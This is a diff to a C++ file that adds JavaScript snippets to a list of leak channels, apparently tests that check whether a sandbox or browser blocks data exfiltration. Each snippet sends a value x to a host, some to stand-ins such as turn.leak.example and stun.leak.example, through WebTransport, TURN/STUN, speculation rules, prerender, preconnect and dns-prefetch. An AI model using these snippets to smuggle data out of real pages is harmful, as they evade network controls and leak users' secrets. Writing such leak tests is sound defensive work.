@@ -177,6 +177,24 @@ constexpr Way kFurther[] = {
      "const f = new FormData(); f.append('f', new Blob([x]), 'n'); fetch(h + '/', {method: 'POST', body: "
      "f, mode: 'no-cors'}).catch(() => 0)"},
 
+    // Ways that no request takes.
+    {"webtransport", "new WebTransport(h + '/' + x).ready.catch(() => 0)"},
+    {"turn",
+     "new RTCPeerConnection({iceServers: [{urls: 'turn:turn.leak.example:3478', username: x, credential: "
+     "x}]})"
+     ".createDataChannel('d')"},
+    {"stun",
+     "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:a' + x.slice(0, 40).toLowerCase() + "
+     "'.stun.leak.example:3478'}]}); p.createDataChannel('d'); p.setLocalDescription(await p.createOffer())"},
+    {"speculation",
+     "add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [h + '/' + "
+     "x]}]})})"},
+    {"prerender", "add('link', {rel: 'prerender', href: h + '/' + x})"},
+    {"preconnect",
+     "add('link', {rel: 'preconnect', href: h.replace('//', '//a' + x.slice(0, 40).toLowerCase() + '.')})"},
+    {"dnsprefetch",
+     "add('link', {rel: 'dns-prefetch', href: h.replace('//', '//a' + x.slice(0, 40).toLowerCase() + '.')})"},
+
     // Documents.
     {"written",
      "const f = add('iframe', {}); f.contentDocument.write('<script src=\"' + h + '/' + x + "
